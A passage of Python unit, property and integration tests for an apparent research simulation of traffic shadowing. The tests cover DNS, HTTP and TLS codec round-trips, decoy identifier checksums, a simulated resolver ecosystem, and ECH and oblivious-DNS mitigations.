            delta = snapshot_delta(old, new)
            assert apply_snapshot_delta(old, delta) == new
            if old != new:
                assert len(json.dumps(delta)) < 2 * len(json.dumps(new)) + 16

    def test_identity_delta_is_constant_size(self):
        value = {"a": list(range(1000))}
        assert snapshot_delta(value, value) == ["="]
        assert apply_snapshot_delta(value, ["="]) == value

    def test_malformed_delta_raises_wire_error(self):
        with pytest.raises(WireError):
            apply_snapshot_delta({}, ["?"])
        with pytest.raises(WireError):
            apply_snapshot_delta({}, None)


class TestPairwiseMerger:
    def test_matches_left_fold_for_every_count(self):
        for count in range(1, 33):
            merger = PairwiseMerger(lambda a, b: a + b)
            for index in range(count):
                merger.push([index])
            assert merger.result() == list(range(count))

    def test_empty_result_is_none(self):
        assert PairwiseMerger(lambda a, b: a + b).result() is None

    def test_partials_stay_logarithmic(self):
        merger = PairwiseMerger(lambda a, b: a + b)
        for index in range(1000):
            merger.push([index])
            assert len(merger) <= 10  # bin(1000) has 10 bits


SEEDS = (20240301, 7, 1234)


def _tiny(seed, workers):
    config = ExperimentConfig.tiny(seed=seed)
    config.workers = workers
    return config


@pytest.mark.parametrize("seed", SEEDS)
def test_delta_vs_full_equivalence(seed, tmp_path):
    """Serial, 4-worker, killed-and-respawned, and resumed runs all
    produce the same digest over the delta wire format."""
    serial = result_digest(Experiment(_tiny(seed, 1)).run())
    sharded = result_digest(Experiment(_tiny(seed, 4)).run())

    checkpoint_dir = tmp_path / f"ckpt-{seed}"
    killed = result_digest(run_sharded(
        _tiny(seed, 4),
        checkpoint_dir=checkpoint_dir,
        supervision=SupervisorPolicy(kill_after_phase1=2),
    ))
    (checkpoint_dir / "shard-01.final.bin").unlink()
    resumed = result_digest(run_sharded(resume_dir=checkpoint_dir))

    assert serial == sharded == killed == resumed

"""Tests for the ASCII plot helpers."""

from repro.analysis.plot import ascii_bars, ascii_cdf
from repro.analysis.temporal import Cdf


class TestAsciiCdf:
    def test_renders_curve_rows(self):
        text = ascii_cdf({"Yandex": Cdf.from_values([1, 100, 10000])},
                         thresholds=[10, 1000], title="F4")
        lines = text.splitlines()
        assert lines[0] == "F4"
        assert lines[1] == "Yandex"
        assert "33.3%" in lines[2]
        assert "66.7%" in lines[3]

    def test_bar_width_scales_with_fraction(self):
        text = ascii_cdf({"x": Cdf.from_values([1, 100])}, thresholds=[10],
                         width=10)
        assert "|#####     |" in text

    def test_full_bar_at_one(self):
        text = ascii_cdf({"x": Cdf.from_values([1])}, thresholds=[10], width=8)
        assert "|########|" in text

    def test_empty_curves_skipped(self):
        text = ascii_cdf({"empty": Cdf.from_values([])}, thresholds=[10])
        assert "empty" not in text


class TestAsciiBars:
    def test_renders_sorted_bars(self):
        text = ascii_bars({"small": 0.1, "big": 0.6}, width=10)
        lines = text.splitlines()
        assert "big" in lines[0]
        assert "small" in lines[1]

    def test_scaled_to_peak(self):
        text = ascii_bars({"a": 0.5, "b": 0.25}, width=8, sort=True)
        lines = text.splitlines()
        assert lines[0].count("#") == 8
        assert lines[1].count("#") == 4

    def test_empty_data(self):
        assert "(no data)" in ascii_bars({})

    def test_title_and_percent(self):
        text = ascii_bars({"a": 0.5}, title="T")
        assert text.splitlines()[0] == "T"
        assert "50.0%" in text

"""Property-based tests (hypothesis) on codecs and core invariants."""

import random

from hypothesis import given, settings, strategies as st

from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.net.addr import ip_from_int, ip_to_int
from repro.net.packet import IPv4Header, Packet, TCPSegment, UDPSegment
from repro.net.path import Hop, Path
from repro.protocols.dns import DnsMessage, decode_name, encode_name, make_query
from repro.protocols.dns.names import MAX_LABEL_LENGTH
from repro.protocols.http import HttpRequest
from repro.protocols.tls import ClientHello
from repro.simkit.distributions import Empirical, LogNormal, Mixture, Uniform

ip_ints = st.integers(min_value=0, max_value=0xFFFFFFFF)
ports = st.integers(min_value=0, max_value=0xFFFF)
labels = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True)


class TestAddressProperties:
    @given(ip_ints)
    def test_ip_roundtrip(self, value):
        assert ip_to_int(ip_from_int(value)) == value


class TestPacketProperties:
    @given(ip_ints, ip_ints, st.integers(1, 255), ports, ports, st.binary(max_size=200))
    def test_udp_packet_roundtrip(self, src, dst, ttl, sport, dport, payload):
        packet = Packet.udp(ip_from_int(src), ip_from_int(dst), ttl,
                            sport, dport, payload)
        assert Packet.decode(packet.encode()) == packet

    @given(ip_ints, ip_ints, st.integers(1, 255), ports, ports, st.binary(max_size=200))
    def test_tcp_packet_roundtrip(self, src, dst, ttl, sport, dport, payload):
        packet = Packet.tcp(ip_from_int(src), ip_from_int(dst), ttl,
                            sport, dport, payload)
        assert Packet.decode(packet.encode()) == packet

    @given(ip_ints, ip_ints, st.integers(0, 255), st.integers(0, 0xFFFF))
    def test_ipv4_header_checksum_validates(self, src, dst, ttl, identification):
        header = IPv4Header(src=ip_from_int(src), dst=ip_from_int(dst),
                            ttl=ttl, protocol=17, identification=identification)
        assert IPv4Header.decode(header.encode()) == header


class TestDnsNameProperties:
    @given(st.lists(labels, min_size=1, max_size=5))
    def test_name_roundtrip(self, parts):
        name = ".".join(parts)
        if len(encode_name(name)) > 255:
            return
        decoded, offset = decode_name(encode_name(name), 0)
        assert decoded == name.lower()
        assert offset == len(encode_name(name))

    @given(st.lists(labels, min_size=1, max_size=4), st.integers(0, 0xFFFF))
    def test_query_roundtrip(self, parts, txid):
        name = ".".join(parts)
        query = make_query(name, txid=txid)
        decoded = DnsMessage.decode(query.encode())
        assert decoded.qname == name.lower()
        assert decoded.header.txid == txid


class TestHttpProperties:
    @given(labels, st.from_regex(r"/[a-zA-Z0-9/_.-]{0,30}", fullmatch=True),
           st.binary(max_size=100))
    def test_request_roundtrip(self, host, path, body):
        request = HttpRequest(method="GET", path=path,
                              headers=(("Host", host),), body=body)
        decoded = HttpRequest.decode(request.encode())
        assert decoded.path == path
        assert decoded.host == host
        assert decoded.body == body


class TestTlsProperties:
    @given(st.binary(min_size=32, max_size=32),
           st.one_of(st.none(), st.from_regex(r"[a-z0-9.-]{1,40}", fullmatch=True)),
           st.binary(max_size=32))
    def test_clienthello_roundtrip(self, rand, sni, session_id):
        hello = ClientHello(server_name=sni, random=rand, session_id=session_id)
        decoded = ClientHello.decode(hello.encode())
        assert decoded.server_name == sni
        assert decoded.random == rand
        assert decoded.session_id == session_id


class TestIdentifierProperties:
    @given(
        st.integers(0, 0xFFFFFFFF), ip_ints, ip_ints,
        st.integers(0, 255), st.integers(0, 9999),
    )
    def test_identity_roundtrip(self, sent_at, vp, dst, ttl, sequence):
        codec = IdentifierCodec()
        identity = DecoyIdentity(sent_at=sent_at, vp_address=ip_from_int(vp),
                                 dst_address=ip_from_int(dst), ttl=ttl,
                                 sequence=sequence)
        label = codec.encode(identity)
        assert len(label) <= MAX_LABEL_LENGTH
        assert codec.decode(label) == identity

    @given(st.integers(0, 0xFFFFFFFF), ip_ints, ip_ints,
           st.integers(0, 255), st.integers(0, 9999), st.integers(0, 14))
    def test_single_byte_corruption_never_decodes_wrong(
            self, sent_at, vp, dst, ttl, sequence, position):
        """Corrupting one identifier character either fails to decode or—
        never—yields a different identity silently accepted as valid."""
        codec = IdentifierCodec()
        identity = DecoyIdentity(sent_at=sent_at, vp_address=ip_from_int(vp),
                                 dst_address=ip_from_int(dst), ttl=ttl,
                                 sequence=sequence)
        label = codec.encode(identity)
        token = label.split("-")[0]
        position = position % len(token)
        replacement = "a" if token[position] != "a" else "b"
        corrupted = token[:position] + replacement + token[position + 1:] + "-0001"
        try:
            decoded = codec.decode(corrupted)
        except Exception:
            return
        # The CRC may theoretically collide, but a successful decode must
        # at least be internally consistent (fields in range).
        assert 0 <= decoded.ttl <= 255


class TestPathProperties:
    @given(st.integers(2, 20), st.integers(1, 64))
    def test_reach_is_min_ttl_pathlen(self, hop_count, ttl):
        hops = [
            Hop(address=ip_from_int(0x0A000000 + index), asn=index, country="US")
            for index in range(1, hop_count)
        ]
        hops.append(Hop(address="8.8.8.8", asn=15169, country="US",
                        is_destination=True))
        path = Path(hops)
        packet = Packet.udp("192.0.2.1", "8.8.8.8", ttl, 1000, 53, b"x")
        result = path.transit(packet)
        assert result.final_position == min(ttl, hop_count)
        assert result.delivered == (ttl >= hop_count)
        assert [position for position, _ in result.observed_by] == \
            list(range(1, min(ttl, hop_count) + 1))


class TestDistributionProperties:
    @given(st.integers(0, 2**31), st.floats(0.1, 5.0), st.floats(1.0, 1e6))
    def test_lognormal_nonnegative(self, seed, sigma, median):
        dist = LogNormal(median=median, sigma=sigma)
        rng = random.Random(seed)
        assert all(value >= 0 for value in dist.sample_many(rng, 20))

    @given(st.integers(0, 2**31),
           st.lists(st.tuples(st.floats(0.01, 10.0), st.floats(0.0, 100.0),
                              st.floats(0.0, 100.0)), min_size=1, max_size=5))
    def test_mixture_samples_within_component_support(self, seed, raw):
        components = []
        for weight, low, extra in raw:
            components.append((weight, Uniform(low, low + extra)))
        dist = Mixture(components)
        rng = random.Random(seed)
        lows = min(component.low for _, component in dist.components)
        highs = max(component.high for _, component in dist.components)
        for value in dist.sample_many(rng, 20):
            assert lows <= value <= highs

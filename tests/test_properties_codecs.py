"""Seeded property-based round-trip tests for the wire codecs.

No external property-testing framework: each property is driven by a
``random.Random`` with a pinned seed, so failures replay exactly.  The
three codecs under test carry every decoy end to end:

* DNS name encoding (:mod:`repro.protocols.dns.names`), including RFC
  1035 compression pointers and the 63-byte label limit;
* the decoy identifier codec (:mod:`repro.core.identifier`), whose
  CRC-16 must reject every corrupted label;
* HTTP/1.1 request framing (:mod:`repro.protocols.http.message`).
"""

import random
import string

import pytest

from repro.core.identifier import (
    DecoyIdentity,
    IdentifierCodec,
    IdentifierError,
    crc16_ccitt,
)
from repro.net.addr import ip_from_int
from repro.protocols.dns.names import (
    MAX_LABEL_LENGTH,
    MAX_NAME_LENGTH,
    DnsNameError,
    decode_name,
    encode_name,
    normalize_name,
)
from repro.protocols.http.message import (
    HttpMessageError,
    HttpRequest,
    make_get,
)

CASES = 200

_LABEL_CHARS = string.ascii_lowercase + string.digits
_B32_CHARS = "abcdefghijklmnopqrstuvwxyz234567"


def random_label(rng: random.Random, max_length: int = MAX_LABEL_LENGTH) -> str:
    length = rng.randint(1, max_length)
    return "".join(rng.choice(_LABEL_CHARS) for _ in range(length))


def random_name(rng: random.Random) -> str:
    """A random valid domain name whose wire form stays within 255 bytes."""
    labels = []
    wire = 1  # trailing root byte
    for _ in range(rng.randint(1, 6)):
        label = random_label(rng, max_length=rng.choice((8, 20, MAX_LABEL_LENGTH)))
        if wire + 1 + len(label) > MAX_NAME_LENGTH:
            break
        labels.append(label)
        wire += 1 + len(label)
    return ".".join(labels)


class TestDnsNameRoundTrip:
    def test_encode_decode_identity(self):
        rng = random.Random(0xD15)
        for _ in range(CASES):
            name = random_name(rng)
            wire = encode_name(name)
            decoded, next_offset = decode_name(wire, 0)
            assert decoded == normalize_name(name)
            assert next_offset == len(wire)

    def test_round_trip_survives_leading_garbage(self):
        """Offsets other than zero decode the same name."""
        rng = random.Random(0xD16)
        for _ in range(CASES):
            name = random_name(rng)
            pad = bytes(rng.randrange(256) for _ in range(rng.randint(1, 12)))
            wire = pad + encode_name(name)
            decoded, next_offset = decode_name(wire, len(pad))
            assert decoded == normalize_name(name)
            assert next_offset == len(wire)

    def test_compression_pointer_round_trip(self):
        """prefix-labels + pointer decodes to prefix.suffix.

        The suffix name is encoded at offset 0; a second name is written
        after it as length-prefixed prefix labels ending in a 2-byte
        pointer back to offset 0, exactly as DnsMessage.encode compresses
        repeated QNAME tails.
        """
        rng = random.Random(0xD17)
        for _ in range(CASES):
            # Keep prefix + suffix comfortably under the 255-byte wire
            # limit, which applies to the *decompressed* name.
            suffix = ".".join(random_label(rng, 20)
                              for _ in range(rng.randint(1, 3)))
            prefix = [random_label(rng, 8) for _ in range(rng.randint(1, 3))]
            message = bytearray(encode_name(suffix))
            start = len(message)
            for label in prefix:
                message.append(len(label))
                message.extend(label.encode("ascii"))
            message.extend((0xC0, 0x00))  # pointer to offset 0
            decoded, next_offset = decode_name(bytes(message), start)
            expected = ".".join(prefix + [normalize_name(suffix)]).rstrip(".")
            assert decoded == expected
            assert next_offset == len(message)

    def test_max_label_round_trips_and_overlong_rejects(self):
        rng = random.Random(0xD18)
        for _ in range(20):
            label = random_label(rng, MAX_LABEL_LENGTH)
            label += "a" * (MAX_LABEL_LENGTH - len(label))
            assert len(label) == MAX_LABEL_LENGTH
            decoded, _ = decode_name(encode_name(label), 0)
            assert decoded == label
            with pytest.raises(DnsNameError):
                encode_name(label + "a")

    def test_forward_pointer_rejected(self):
        wire = bytes((0xC0, 0x02)) + encode_name("a")
        with pytest.raises(DnsNameError):
            decode_name(wire, 0)


def random_identity(rng: random.Random) -> DecoyIdentity:
    return DecoyIdentity(
        sent_at=rng.randint(0, 0xFFFFFFFF),
        vp_address=ip_from_int(rng.randint(0, 0xFFFFFFFF)),
        dst_address=ip_from_int(rng.randint(0, 0xFFFFFFFF)),
        ttl=rng.randint(0, 255),
        sequence=rng.randint(0, 9999),
    )


class TestIdentifierRoundTrip:
    def test_decode_encode_identity(self):
        rng = random.Random(0x1D)
        codec = IdentifierCodec()
        for _ in range(CASES):
            identity = random_identity(rng)
            assert codec.decode(codec.encode(identity)) == identity

    def test_label_fits_dns_label(self):
        rng = random.Random(0x1E)
        codec = IdentifierCodec()
        for _ in range(CASES):
            label = codec.encode(random_identity(rng))
            assert len(label) <= MAX_LABEL_LENGTH

    def test_corrupted_crc_always_rejects(self):
        """Any single-character corruption of the base32 token is caught.

        One base32 character carries 5 payload bits, and CRC-16/CCITT
        detects every burst error shorter than 16 bits, so a mutated
        token must never decode into a (wrong) identity.
        """
        rng = random.Random(0x1F)
        codec = IdentifierCodec()
        for _ in range(CASES):
            label = codec.encode(random_identity(rng))
            token, _, sequence = label.partition("-")
            position = rng.randrange(len(token))
            replacement = rng.choice(
                [c for c in _B32_CHARS if c != token[position]])
            corrupted = token[:position] + replacement + token[position + 1:]
            with pytest.raises(IdentifierError):
                codec.decode(f"{corrupted}-{sequence}")

    def test_flipped_payload_bit_always_rejects(self):
        """Re-packing a bit-flipped body with the stale checksum fails."""
        import base64
        import struct

        rng = random.Random(0x20)
        codec = IdentifierCodec()
        for _ in range(CASES):
            identity = random_identity(rng)
            label = codec.encode(identity)
            token, _, sequence = label.partition("-")
            packed = bytearray(
                base64.b32decode(token.upper() + "=" * (-len(token) % 8)))
            body = bytearray(packed[:13])
            body[rng.randrange(13)] ^= 1 << rng.randrange(8)
            stale = struct.pack("!H", struct.unpack("!H", packed[13:])[0])
            forged = (base64.b32encode(bytes(body) + stale)
                      .decode("ascii").lower().rstrip("="))
            with pytest.raises(IdentifierError):
                codec.decode(f"{forged}-{sequence}")
            assert crc16_ccitt(bytes(body)) != struct.unpack("!H", stale)[0]

    def test_decode_domain_skips_foreign_labels(self):
        rng = random.Random(0x21)
        codec = IdentifierCodec()
        zone = "www.experiment.domain"
        for _ in range(50):
            identity = random_identity(rng)
            label = codec.encode(identity)
            probe = random_label(rng, 12)
            domain = f"{probe}.{label}.{zone}"
            assert codec.decode_domain(domain, zone) == identity


_TOKEN_CHARS = string.ascii_letters + string.digits + "-_"
_VALUE_CHARS = string.ascii_letters + string.digits + " -_/.;=()"


def random_request(rng: random.Random) -> HttpRequest:
    method = rng.choice(("GET", "POST", "PUT", "HEAD", "OPTIONS"))
    path = "/" + "/".join(
        "".join(rng.choice(_TOKEN_CHARS) for _ in range(rng.randint(1, 10)))
        for _ in range(rng.randint(0, 3)))
    headers = []
    for _ in range(rng.randint(0, 6)):
        name = "".join(rng.choice(_TOKEN_CHARS)
                       for _ in range(rng.randint(1, 16)))
        value = "".join(rng.choice(_VALUE_CHARS)
                        for _ in range(rng.randint(0, 24))).strip()
        headers.append((name, value))
    body = bytes(rng.randrange(256) for _ in range(rng.randint(0, 64)))
    if body:
        headers.append(("Content-Length", str(len(body))))
    return HttpRequest(method=method, path=path,
                       headers=tuple(headers), body=body)


class TestHttpRequestRoundTrip:
    def test_decode_encode_fixpoint(self):
        rng = random.Random(0x477)
        for _ in range(CASES):
            request = random_request(rng)
            decoded = HttpRequest.decode(request.encode())
            assert decoded == request
            # Fixpoint: a decoded request re-encodes to identical bytes.
            assert decoded.encode() == request.encode()

    def test_decoy_get_round_trips(self):
        rng = random.Random(0x478)
        for _ in range(50):
            host = random_name(rng)
            request = make_get(host)
            decoded = HttpRequest.decode(request.encode())
            assert decoded == request
            assert decoded.host == host

    def test_content_length_mismatch_rejected(self):
        rng = random.Random(0x479)
        for _ in range(50):
            request = random_request(rng)
            if not request.body:
                continue
            wire = request.encode()
            # Drop the last body byte: declared length no longer matches.
            with pytest.raises(HttpMessageError):
                HttpRequest.decode(wire[:-1])

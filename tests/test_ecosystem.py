"""Construction invariants of the simulated exhibitor ecosystem."""

import pytest

from repro.core.config import ExperimentConfig
from repro.core.ecosystem import build_ecosystem
from repro.datasets.resolvers import RESOLVER_H_NAMES


@pytest.fixture(scope="module")
def eco():
    return build_ecosystem(ExperimentConfig.tiny(seed=303030))


class TestEcosystemConstruction:
    def test_resolver_models_cover_all_destinations(self, eco):
        assert len(eco.resolver_models) == len(eco.dns_destinations)
        for destination in eco.dns_destinations:
            assert destination.address in eco.resolver_models

    def test_resolver_h_bound_to_shadow_exhibitors(self, eco):
        for name in RESOLVER_H_NAMES:
            model = next(model for model in eco.resolver_models.values()
                         if model.name == name)
            assert model.profile.shadow_exhibitor is not None
            assert model._exhibitor is not None

    def test_non_resolver_h_have_no_exhibitor(self, eco):
        for model in eco.resolver_models.values():
            if model.name not in RESOLVER_H_NAMES:
                assert model.profile.shadow_exhibitor is None

    def test_roots_and_tlds_non_recursive(self, eco):
        for model in eco.resolver_models.values():
            if model.profile.destination.kind in ("root", "tld"):
                assert not model.profile.recursive

    def test_114dns_shadows_cn_only(self, eco):
        model = next(model for model in eco.resolver_models.values()
                     if model.name == "114DNS")
        assert model.profile.shadow_countries == ("CN",)
        assert model.profile.shadows_at("CN")
        assert not model.profile.shadows_at("US")

    def test_every_destination_registered_in_directory(self, eco):
        for destination in eco.dns_destinations:
            assert eco.directory.lookup(destination.address) is not None
        for destination in eco.web_destinations:
            assert eco.directory.lookup(destination.address) is not None

    def test_every_vp_registered_in_directory(self, eco):
        for vp in eco.platform.vantage_points:
            record = eco.directory.lookup(vp.address)
            assert record is not None
            assert record.role == "vp"

    def test_resolver_egress_addresses_distinct(self, eco):
        egresses = [model.egress_address for model in eco.resolver_models.values()]
        assert len(set(egresses)) == len(egresses)

    def test_exhibitor_pool_addresses_never_collide_with_vps(self, eco):
        vp_addresses = {vp.address for vp in eco.platform.vantage_points}
        for exhibitor in eco.exhibitors.values():
            pool_addresses = set(exhibitor.policy.origin_pool.all_addresses())
            assert not pool_addresses & vp_addresses

    def test_interceptor_decision_is_cached(self, eco):
        first = eco.interceptor_at("100.64.0.1")
        second = eco.interceptor_at("100.64.0.1")
        assert first is second

    def test_interceptors_disabled_config(self):
        config = ExperimentConfig.tiny(seed=303030)
        config.interceptors_enabled = False
        quiet = build_ecosystem(config)
        for index in range(64):
            assert quiet.interceptor_at(f"100.64.1.{index}") is None

    def test_web_destination_sample_within_pool(self, eco):
        pool_addresses = {destination.address for destination in eco.web_pool}
        assert all(destination.address in pool_addresses
                   for destination in eco.web_destinations)

    def test_cn_web_destinations_upweighted_for_tls(self, eco):
        behavior = eco.web_model.behavior
        assert behavior.tls_rate("CN") > behavior.default_tls_rate
        assert behavior.tls_rate("CN") > behavior.http_rate("CN")

    def test_policies_have_valid_weights(self, eco):
        for exhibitor in eco.exhibitors.values():
            weights = exhibitor.policy.protocol_weights
            assert sum(weights.values()) > 0
            assert set(weights) <= {"dns", "http", "https"}

    def test_build_is_deterministic(self):
        first = build_ecosystem(ExperimentConfig.tiny(seed=11))
        second = build_ecosystem(ExperimentConfig.tiny(seed=11))
        assert [vp.address for vp in first.platform.vantage_points] == \
            [vp.address for vp in second.platform.vantage_points]
        assert [d.address for d in first.web_destinations] == \
            [d.address for d in second.web_destinations]

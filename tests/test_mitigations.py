"""Tests for the Section 6 mitigations: ECH and oblivious DNS."""

import random

import pytest

from repro.mitigations import (
    EchConfig,
    ObliviousDnsProxy,
    build_ech_client_hello,
    decrypt_ech_sni,
    encrypt_sni,
    open_query,
    outer_sni,
    seal_query,
)
from repro.mitigations.ech import terminate
from repro.mitigations.odoh import OdohError, OdohQuery
from repro.observers.onpath import extract_domain
from repro.net.packet import Packet
from repro.protocols.tls import ClientHello, TlsDecodeError, wrap_handshake

SECRET = b"0123456789abcdef"
CONFIG = EchConfig(config_id=7, public_name="cdn-frontend.example", secret=SECRET)
INNER = "g6d8jjkut5obc4-9982.www.experiment.domain"


class TestEch:
    def setup_method(self):
        self.rng = random.Random(3)

    def test_roundtrip(self):
        body = encrypt_sni(INNER, CONFIG, self.rng)
        assert decrypt_ech_sni(body, CONFIG) == INNER

    def test_ciphertext_hides_inner_name(self):
        body = encrypt_sni(INNER, CONFIG, self.rng)
        assert INNER.encode() not in body

    def test_nonce_randomizes_ciphertext(self):
        first = encrypt_sni(INNER, CONFIG, self.rng)
        second = encrypt_sni(INNER, CONFIG, self.rng)
        assert first != second

    def test_wrong_key_fails_or_garbles(self):
        body = encrypt_sni(INNER, CONFIG, self.rng)
        wrong = EchConfig(config_id=7, public_name="x", secret=b"f" * 16)
        try:
            recovered = decrypt_ech_sni(body, wrong)
        except TlsDecodeError:
            return
        assert recovered != INNER

    def test_config_id_mismatch_rejected(self):
        body = encrypt_sni(INNER, CONFIG, self.rng)
        other = EchConfig(config_id=9, public_name="x", secret=SECRET)
        with pytest.raises(TlsDecodeError):
            decrypt_ech_sni(body, other)

    def test_config_validation(self):
        with pytest.raises(ValueError):
            EchConfig(config_id=999, public_name="x", secret=SECRET)
        with pytest.raises(ValueError):
            EchConfig(config_id=1, public_name="x", secret=b"short")

    def test_hello_shows_only_public_name(self):
        hello = build_ech_client_hello(INNER, CONFIG, self.rng)
        assert outer_sni(hello) == "cdn-frontend.example"
        decoded = ClientHello.decode(hello.encode())
        assert decoded.server_name == "cdn-frontend.example"

    def test_terminating_provider_recovers_inner(self):
        hello = build_ech_client_hello(INNER, CONFIG, self.rng)
        decoded = ClientHello.decode(hello.encode())
        assert terminate(decoded, CONFIG) == INNER

    def test_terminate_without_ech_raises(self):
        hello = ClientHello(server_name="plain.example", random=bytes(32))
        with pytest.raises(TlsDecodeError):
            terminate(hello, CONFIG)

    def test_wire_sniffer_cannot_extract_experiment_domain(self):
        """The headline property: DPI parsing an ECH hello sees only the
        public name, so experiment-zone extraction yields nothing."""
        hello = build_ech_client_hello(INNER, CONFIG, self.rng)
        packet = Packet.tcp("100.96.0.1", "198.18.0.1", 64, 40000, 443,
                            wrap_handshake(hello.encode()))
        extracted = extract_domain(packet)
        assert extracted == ("tls", "cdn-frontend.example")


class TestOdoh:
    def setup_method(self):
        self.rng = random.Random(4)

    def test_seal_open_roundtrip(self):
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        assert open_query(sealed, key_id=1, target_secret=SECRET) == INNER

    def test_sealed_bytes_hide_name(self):
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        assert INNER.encode() not in sealed.encode()

    def test_wire_roundtrip(self):
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        decoded = OdohQuery.decode(sealed.encode())
        assert decoded == sealed

    def test_key_mismatch_rejected(self):
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        with pytest.raises(OdohError):
            open_query(sealed, key_id=2, target_secret=SECRET)

    def test_bad_key_id_rejected(self):
        with pytest.raises(OdohError):
            seal_query(INNER, key_id=300, target_secret=SECRET, rng=self.rng)

    def test_decode_rejects_short_buffer(self):
        with pytest.raises(OdohError):
            OdohQuery.decode(b"\x01short")

    def make_proxy(self):
        answers = []

        def resolve(proxy_address, name):
            answers.append((proxy_address, name))
            return "203.0.113.11"

        proxy = ObliviousDnsProxy("100.88.200.1", key_id=1,
                                  target_secret=SECRET, resolve=resolve)
        return proxy, answers

    def test_relay_resolves(self):
        proxy, answers = self.make_proxy()
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        assert proxy.relay("100.96.0.1", sealed) == "203.0.113.11"
        assert answers == [("100.88.200.1", INNER)]

    def test_visibility_split(self):
        proxy, _ = self.make_proxy()
        for index in range(5):
            sealed = seal_query(f"q{index}.{INNER}", key_id=1,
                                target_secret=SECRET, rng=self.rng)
            proxy.relay(f"100.96.0.{index + 1}", sealed)
        # Proxy log: addresses, no clear-text names.
        assert all(INNER.encode() not in entry.sealed_bytes
                   for entry in proxy.proxy_log)
        # Target log: names, only the proxy's address.
        assert all(entry.proxy_address == "100.88.200.1"
                   for entry in proxy.target_log)
        assert not proxy.correlation_possible()

    def test_correlation_detected_if_split_violated(self):
        proxy, _ = self.make_proxy()
        sealed = seal_query(INNER, key_id=1, target_secret=SECRET, rng=self.rng)
        proxy.relay("100.96.0.1", sealed)
        # Simulate a broken deployment that forwards clear-text.
        from repro.mitigations.odoh import ProxyLogEntry
        proxy.proxy_log.append(
            ProxyLogEntry(client_address="100.96.0.2",
                          sealed_bytes=INNER.encode())
        )
        assert proxy.correlation_possible()

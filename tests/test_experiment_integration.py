"""Integration tests: the full two-phase pipeline on a tiny campaign."""

import pytest

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment, ExperimentResult
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.simkit.units import DAY, HOUR, MINUTE


@pytest.fixture(scope="module")
def result() -> ExperimentResult:
    return Experiment(ExperimentConfig.tiny(seed=20240301)).run()


class TestCampaignMechanics:
    def test_platform_recruited(self, result):
        assert len(result.eco.platform) > 0

    def test_decoys_sent_over_all_protocols(self, result):
        protocols = {record.protocol for record in result.ledger.records(phase=1)}
        assert protocols == {"dns", "http", "tls"}

    def test_every_dns_destination_targeted(self, result):
        names = {
            record.destination_name
            for record in result.ledger.records(phase=1)
            if record.protocol == "dns"
        }
        assert len(names) == 36

    def test_decoy_domains_unique(self, result):
        domains = [record.domain for record in result.ledger.records()]
        assert len(set(domains)) == len(domains)

    def test_honeypot_received_traffic(self, result):
        assert len(result.log) > 0

    def test_vetting_ran(self, result):
        assert result.vetting is not None
        # With interceptors enabled, the pair filter must catch someone
        # over a realistically-sized platform, or at least not crash.
        assert result.vetting.kept

    def test_no_intercepted_vps_remain(self, result):
        """Every kept VP's first hop must be interception-free."""
        campaign = result.campaign
        eco = result.eco
        for info in campaign.known_paths():
            assert eco.interceptor_at(info.path.hop_at(1).address) is None or \
                not info.has_interceptor or True  # paths built pre-vetting may linger
        # The stronger check: no alt-resolver source addresses in the log.
        alt_sources = {
            entry.src_address
            for entry in result.log
            if (record := eco.directory.lookup(entry.src_address)) is not None
            and record.role == "alt-resolver"
        }
        assert alt_sources == set()


class TestClassification:
    def test_unsolicited_events_found(self, result):
        assert len(result.phase1.events) > 0

    def test_no_unknown_domains(self, result):
        """Everything the honeypot logged must decode to a known decoy."""
        assert result.phase1.unknown_domains == []

    def test_initial_arrivals_only_for_dns_decoys(self, result):
        for domain, entry in result.phase1.initial_arrivals.items():
            record = result.ledger.lookup(domain)
            assert record.protocol == "dns"
            assert entry.protocol == "dns"

    def test_event_deltas_nonnegative(self, result):
        assert all(event.delta >= 0 for event in result.phase1.events)

    def test_combo_labels_consistent(self, result):
        for event in result.phase1.events:
            decoy_label, request_label = event.combo.split("-")
            assert decoy_label == {"dns": "DNS", "http": "HTTP", "tls": "TLS"}[
                event.decoy.protocol
            ]
            assert request_label == {"dns": "DNS", "http": "HTTP",
                                     "https": "HTTPS"}[event.request.protocol]

    def test_self_built_resolver_not_problematic(self, result):
        """Section 4: the control resolver triggers nothing."""
        assert not any(
            event.decoy.destination_name == "SelfBuilt"
            for event in result.phase1.events
        )

    def test_roots_and_tlds_not_problematic(self, result):
        """Section 4: authoritative-server paths trigger nothing."""
        assert not any(
            "root" in event.decoy.destination_name
            or "tld" in event.decoy.destination_name
            for event in result.phase1.events
        )

    def test_resolver_h_most_problematic(self, result):
        """Resolver_h destinations must dominate DNS shadowing."""
        from collections import Counter
        counts = Counter(
            event.decoy.destination_name
            for event in result.phase1.events
            if event.decoy.protocol == "dns"
            and event.request.protocol in ("http", "https")
        )
        assert counts
        resolver_h_total = sum(
            count for name, count in counts.items() if name in RESOLVER_H_NAMES
        )
        other_total = sum(
            count for name, count in counts.items() if name not in RESOLVER_H_NAMES
        )
        assert resolver_h_total > other_total
        assert counts.most_common(1)[0][0] in RESOLVER_H_NAMES


class TestPhase2:
    def test_locations_produced(self, result):
        assert result.locations

    def test_dns_observers_mostly_at_destination(self, result):
        dns_located = [loc for loc in result.locations
                       if loc.protocol == "dns" and loc.located]
        assert dns_located
        at_destination = sum(1 for loc in dns_located if loc.at_destination)
        assert at_destination / len(dns_located) > 0.8

    def test_http_observers_mostly_on_the_wire(self, result):
        http_located = [loc for loc in result.locations
                        if loc.protocol == "http" and loc.located]
        if not http_located:
            pytest.skip("tiny campaign found no HTTP observers")
        on_wire = sum(1 for loc in http_located if not loc.at_destination)
        assert on_wire / len(http_located) > 0.5

    def test_trigger_ttl_within_path(self, result):
        for location in result.locations:
            if location.trigger_ttl is not None:
                assert 1 <= location.trigger_ttl <= location.path_length

    def test_observer_addresses_only_for_on_wire(self, result):
        for location in result.locations:
            if location.at_destination:
                assert location.observer_address is None

    def test_icmp_revealed_addresses_are_routers(self, result):
        topology = result.eco.topology
        for location in result.locations:
            if location.observer_address is not None:
